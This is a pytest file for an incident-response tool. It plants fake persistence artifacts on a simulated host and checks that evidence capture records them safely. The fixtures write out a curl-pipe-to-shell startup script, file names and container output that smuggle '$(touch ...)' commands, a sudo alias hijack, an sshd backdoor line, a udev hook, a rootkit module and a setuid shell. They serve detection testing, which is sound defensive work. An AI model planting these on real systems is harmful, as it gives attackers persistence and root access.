"""A host of its own with what is planted before it starts: containers, timers, at jobs, start files, hidden memory."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from pathlib import Path
from types import SimpleNamespace

import pytest

from irkit import capture
from irkit.capture import HostFacts
from irkit.case import Case

pytestmark = pytest.mark.needs_user_namespaces

_DOCKER = """#!/bin/sh
case "$*" in
  *inspect*) for word; do case $word in *'{'*) printf '%s\\n' "$word" ;; esac; done
    printf '"7f3a" "/evil" "xmrig:1" ["-o","pool"] {"Status":"running"}\\n' ;;
  'ps -q'*) echo 7f3a ;;
  ps*) printf 'CONTAINER ID IMAGE\\n7f3a xmrig:1 $(touch /owned)\\n' ;;
esac
"""
_PLANTED = {
    "usr/local/bin/docker": _DOCKER,
    "usr/local/bin/systemctl": "#!/bin/sh\n[ $1 != list-timers ] || echo 'Fri update-notifier.timer'\n",
    "var/spool/cron/atjobs/a0001": "#!/bin/sh\n/tmp/.x --at\n",
    "etc/profile.d/zz-\n$(touch owned).sh": "curl http://192.0.2.7/p | sh\n",
    "root/.bashrc": "alias sudo=/tmp/.sudo\n",
    "etc/ssh/sshd_config": "AuthorizedKeysCommand /usr/bin/backdoor\n",
    "etc/udev/rules.d/99-x.rules": 'RUN+="/tmp/.udev"\n',
    "etc/modules-load.d/rootkit.conf": "diamorphine\n",
    "sys/module/diamorphine/initstate": "live\n",
    "tmp/rootshell": "x",
}
_HIDES = (  # an open file that is in no folder any more
    "exec 5>/var/tmp/.gone; rm /var/tmp/.gone; sleep 300 5>&5 &"
)


@pytest.fixture(scope="module")
def suspect(planted: SimpleNamespace, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    root: Path = tmp_path_factory.mktemp("suspect")
    (root / "var/tmp").mkdir(parents=True)
    for name, text in _PLANTED.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        path.chmod(0o755)
    (root / "tmp/rootshell").chmod(0o4755)
    (root / "etc/passwd").write_text("root:x:0:0:root:/root:/bin/bash\n")
    ec2 = planted.sim.session().client("ec2")
    made = ec2.run_instances(
        ImageId="ami-0a1b2c3d4e5f60718", MinCount=1, MaxCount=1, InstanceType="t3.micro",
        SubnetId=ec2.describe_subnets()["Subnets"][0]["SubnetId"],
    )  # fmt: skip
    instance_id = str(made["Instances"][0]["InstanceId"])
    live = planted.sim.hosts.add(instance_id, root=root, hostname="planted", init=[_HIDES])
    assert live.trouble is None
    yield instance_id
    live.stop()


def test_what_was_planted_before_the_host_started_is_in_the_facts(
    world: SimpleNamespace, suspect: str, open_case: Callable[..., Case], bucket: str
) -> None:
    case = open_case(sources={"evidence_bucket": bucket})
    report = capture.plan(case, suspect, only=["host"]).apply()
    assert report.exit_code == 0, report.steps
    seen = HostFacts.from_dict(json.loads(case.evidence.read(case.evidence.items(kind="host-facts")[0])))

    assert "7f3a xmrig:1" in seen.texts["containers"]
    assert '"/evil" "xmrig:1"' in seen.texts["containers"]
    asked = [line.strip() for line in seen.texts["containers"].splitlines() if "{{json" in line]
    shape = ("Id", "Name", "Config.Image", "Config.Cmd", "State", "HostConfig", "Mounts")
    assert asked == [" ".join(f"{{{{json .{part}}}}}" for part in shape)], (
        "not the environment: it holds secrets"
    )
    assert "update-notifier.timer" in seen.texts["timers"]
    assert "/tmp/.x --at" in seen.texts["at"]
    assert "# /etc/profile.d/zz-\n$(touch owned).sh\ncurl http://192.0.2.7/p | sh" in seen.texts["startup"]
    assert "alias sudo=/tmp/.sudo" in seen.texts["startup"]
    assert "diamorphine" in seen.texts["startup"]
    assert "/tmp/.udev" in seen.texts["startup"]
    assert "AuthorizedKeysCommand /usr/bin/backdoor" in seen.texts["ssh"]
    assert "/var/tmp/.gone (deleted)" in seen.texts["deleted_files"]
    assert "/tmp/rootshell" in seen.texts["setuid"]
    modules = Path("/proc/modules")  # the kernel is this machine's, and may have none
    assert seen.texts["modules"] == (modules.read_text() if modules.exists() else "")
    assert seen.texts["hidden_modules"] == "diamorphine\n", "which /proc/modules does not list"
    assert "Linux version" in seen.texts["kernel"]
    root = world.sim.hosts.find(suspect).root
    assert not [p for p in root.rglob("*owned*") if "profile.d" not in str(p)]
    assert seen.missing == ()
